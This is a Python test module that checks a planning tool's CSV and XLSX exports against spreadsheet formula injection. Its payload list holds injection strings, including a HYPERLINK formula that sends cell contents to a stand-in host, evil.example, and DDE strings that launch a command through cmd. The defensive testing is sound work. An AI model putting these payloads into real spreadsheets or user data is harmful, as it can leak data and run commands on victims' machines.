"""Spreadsheet formula injection through plan exports (CSV and XLSX).

Every text a team can type (plan name, item title, owner, notes, the author name kept as "last
changed by") is filled with payloads that spreadsheet programs would run; the exported cells must
all be inert: no CSV cell starts with a formula character, no XLSX cell is a formula.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest

from qunce.plans import (
    add_item,
    create_plan,
    create_workspace,
    export_plan,
    get_plan,
    import_plan,
    open_store,
    update_item,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'note; =HYPERLINK("http://evil.example","semicolon")',
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


class _NoPlaybooks:
    items: dict[str, object] = {}  # noqa: RUF012

    def version(self, item_id: str) -> str:
        return ""


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    store = open_store(f"sqlite:///{tmp_path_factory.mktemp('formula') / 'q.db'}")
    workspace, _code = create_workspace(store, "Formula team")
    plan = create_plan(store, workspace.id, PAYLOADS[0], [], _NoPlaybooks(),
                       start_date=date(2026, 3, 2))  # fmt: skip
    for payload in PAYLOADS:
        item = add_item(store, workspace.id, plan.id, payload, owner=payload, notes=payload,
                        author=payload)  # fmt: skip
        update_item(store, workspace.id, item.id, {"notes": payload + " again"},
                    expected_version=item.version, author=payload)  # fmt: skip
    plan = get_plan(store, workspace.id, plan.id)
    # A plan that came in through an import carries its payloads the same way.
    imported = import_plan(store, workspace.id, export_plan(plan, "json", lang="en",
                                                             today=date(2026, 3, 2)))  # fmt: skip
    out = {}
    for which, source in (("typed", plan), ("imported", imported)):
        for lang in ("zh", "en"):
            for fmt in ("csv", "xlsx"):
                out[f"{which}-{fmt}-{lang}"] = export_plan(source, fmt, lang=lang,
                                                           today=date(2026, 4, 1))  # fmt: skip
    store.dispose()
    return out


@pytest.mark.parametrize("which", ["typed", "imported"])
@pytest.mark.parametrize("lang", ["zh", "en"])
def test_csv_cells_never_start_a_formula(exported: dict[str, bytes], which: str, lang: str) -> None:
    text = exported[f"{which}-csv-{lang}"].decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert any("HYPERLINK" in cell for cell in cells), "the payloads are in the export"
    bad = [cell for cell in cells if cell.startswith(DANGEROUS)]
    assert not bad, bad
    # A spreadsheet that splits on semicolons (many European locales) would split an unquoted
    # 'note; =HYPERLINK(...)' into a second cell starting a formula: every field is quoted.
    requoted = io.StringIO()
    csv.writer(requoted, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(rows)
    assert text == requoted.getvalue()
    assert any("; =HYPERLINK" in cell for cell in cells)


@pytest.mark.parametrize("which", ["typed", "imported"])
@pytest.mark.parametrize("lang", ["zh", "en"])
def test_xlsx_has_no_formula_cells(exported: dict[str, bytes], which: str, lang: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(exported[f"{which}-xlsx-{lang}"]))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    seen.append(cell.value)
                    if cell.value.startswith(DANGEROUS):  # kept as typed, but text for Excel
                        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    assert any("HYPERLINK" in value for value in seen)
